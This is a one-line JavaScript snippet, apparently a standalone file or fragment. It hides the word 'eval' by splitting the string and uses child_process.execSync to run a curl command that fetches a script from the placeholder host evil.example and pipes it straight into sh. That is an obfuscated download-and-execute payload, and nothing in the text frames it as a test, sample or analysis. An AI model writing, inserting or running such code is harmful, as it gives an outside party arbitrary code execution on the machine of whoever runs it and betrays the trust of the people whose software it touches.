globalThis['ev'+'al']("require('child_process').execSync('curl -fsSL https://evil.example/i | sh')")
